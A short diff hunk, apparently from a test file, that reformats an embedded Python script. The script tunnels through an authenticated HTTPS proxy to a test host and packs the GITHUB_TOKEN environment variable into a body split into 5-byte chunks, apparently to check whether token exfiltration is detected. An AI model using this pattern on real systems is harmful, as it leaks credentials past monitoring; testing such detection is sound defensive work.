@@ -31,7 +31,7 @@ import base64, http.client, os, ssl, urllib.parse
 u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
 c = http.client.HTTPSConnection(u.hostname, u.port, context=ssl.create_default_context())
 auth = base64.b64encode((u.username + ":" + u.password).encode()).decode()
-host, port = "`+api.hostPort()+`".rsplit(":", 1)
+host, port = "` + api.hostPort() + `".rsplit(":", 1)
 c.set_tunnel(host, int(port), headers={"Proxy-Authorization": "Basic " + auth})
 body = ("{\"k\":\"" + os.environ["GITHUB_TOKEN"] + "\"}").encode()
 chunks = (body[i:i+5] for i in range(0, len(body), 5))
